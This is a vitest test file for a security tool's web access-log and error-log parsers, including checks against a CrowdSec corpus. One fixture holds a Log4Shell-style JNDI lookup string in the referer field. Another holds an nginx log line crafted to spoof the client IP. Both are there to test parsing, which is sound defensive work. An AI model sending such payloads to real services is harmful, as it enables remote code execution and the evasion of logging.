import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { corpusPath, hasCorpus } from "../../test-support/corpus.js";
import { parseAccessLog } from "./access-log.js";
import { parseWebErrorLog } from "./access-log-errors.js";
import { parseLine } from "./registry.js";

const ctx = { receivedAt: Date.UTC(2024, 0, 1), timezone: "UTC" };

describe("access logs", () => {
  it("keeps the referer as metadata.referer, and reads Apache 2.2's vhost after the time", () => {
    const e = parseAccessLog(
      '192.0.2.1 - - [01/Jan/2024:10:00:00 +0000] "GET / HTTP/1.1" 200 10 "${jndi:ldap://x/a}" "curl/8"',
      ctx,
    )?.event;
    expect(e?.metadata).toEqual({ referer: "${jndi:ldap://x/a}" });
    const v = parseAccessLog(
      '192.0.2.7 - - [01/Jan/2024:10:00:00 +0000] www.example.org "GET /wp-login.php HTTP/1.1" 200 512 "-" "Mozilla/5.0"',
      ctx,
    )?.event;
    expect(v).toMatchObject({
      src_ip: "192.0.2.7",
      hostname: "www.example.org",
      url: "/wp-login.php",
      http_status: 200,
    });
    expect(v?.metadata).toBeUndefined();
  });

  it("reads the combined format with its own offset, and the vhost forms", () => {
    const e = parseAccessLog(
      '192.0.2.1 - - [01/Jan/2024:10:00:00 +0200] "GET /a?b=\\"c\\" HTTP/1.1" 500 10 "https://r/" "UA \\"x\\""',
      ctx,
    )?.event;
    expect(e).toMatchObject({
      src_ip: "192.0.2.1",
      timestamp: Date.UTC(2024, 0, 1, 8),
      url: '/a?b="c"',
      http_status: 500,
      severity: "medium",
      user_agent: 'UA "x"',
      reason: "referer https://r/",
    });
    const v = parseAccessLog(
      'www.x.org:443 2001:db8::1 - - [01/Jan/2024:10:00:00 +0000] "HEAD / HTTP/2.0" 444 0',
      ctx,
    );
    expect(v?.event).toMatchObject({
      hostname: "www.x.org",
      src_ip: "2001:db8::1",
      action: "reject",
      http_method: "HEAD",
    });
  });

  it("keeps garbage request lines as the message without inventing a method", () => {
    const e = parseAccessLog(
      '192.0.2.1 - - [01/Jan/2024:10:00:00 +0000] "\\x16\\x03\\x01" 400 0 "-" "-"',
      ctx,
    )?.event;
    expect(e).toMatchObject({ http_method: "", url: "", message: "\\x16\\x03\\x01", http_status: 400 });
  });

  it("reads nginx and Apache error lines, taking nginx's client from its own trailer", () => {
    const spoof =
      '2024/01/01 10:00:00 [error] 1#1: *1 user "a, client: 10.9.9.9": password mismatch, client: 192.0.2.2, server: s, request: "GET / HTTP/1.1", host: "h"';
    expect(parseWebErrorLog(spoof, ctx)?.event).toMatchObject({
      src_ip: "192.0.2.2",
      sub_category: "auth-failure",
    });
    const apache =
      "[Mon Jan 01 10:00:00 2024] [error] [client 192.0.2.3] File does not exist: /var/www/x.php";
    expect(parseWebErrorLog(apache, ctx)?.event).toMatchObject({
      source_type: "apache",
      src_ip: "192.0.2.3",
      sub_category: "not-found",
    });
    expect(parseWebErrorLog("[error] something", ctx)).toBeNull();
  });
});

describe.skipIf(!hasCorpus)("CrowdSec hub logs", () => {
  const lines = (dir: string) =>
    readFileSync(corpusPath("crowdsec-hub", dir, `${dir}.log`), "utf8")
      .split("\n")
      .filter(Boolean);

  it("nginx-logs: every parser.assert field Vigil has agrees", () => {
    const asserts = readFileSync(corpusPath("crowdsec-hub", "nginx_http-logs", "parser.assert"), "utf8");
    const field: Record<string, string> = {
      remote_addr: "src_ip",
      verb: "http_method",
      status: "http_status",
      http_user_agent: "user_agent",
      request: "url",
      target_fqdn: "hostname",
    };
    const input = lines("nginx_http-logs");
    let checked = 0;
    const re =
      /^results\["s01-parse"\]\["crowdsecurity\/nginx-logs"\]\[(\d+)\]\.Evt\.Parsed\["(\w+)"\] == "(.*)"$/;
    for (const a of asserts.split("\n")) {
      const m = re.exec(a);
      const ours = m && field[m[2] ?? ""];
      if (!m || !ours) continue;
      const e = parseLine(input[Number(m[1])] ?? "", ctx).event as Record<string, unknown> | undefined;
      expect(String(e?.[ours]), a).toBe(m[3]);
      checked++;
    }
    console.log(`crowdsec nginx-logs: ${checked} assertions checked`);
    expect(checked).toBe(47);
  });

  it("the scenario sources come out as src_ip of every line", () => {
    const want: Record<string, string> = {
      "apache-http-probing": "172.17.0.1",
      "nginx-bad-user-agent": "127.0.0.1",
      "nginx-http-path-traversal": "127.0.0.1",
      "nginx-http-sensitive-files": "127.0.0.1",
      "envoy-http-crawl-non_statics": "10.0.0.13",
      "ssh-bf": "35.188.49.176",
    };
    for (const [dir, ip] of Object.entries(want)) {
      for (const line of lines(dir)) {
        const e = parseLine(line, ctx).event;
        expect(e?.source_type, line).not.toBe("unknown");
        expect(e?.src_ip, line).toBe(ip);
      }
    }
  });
});
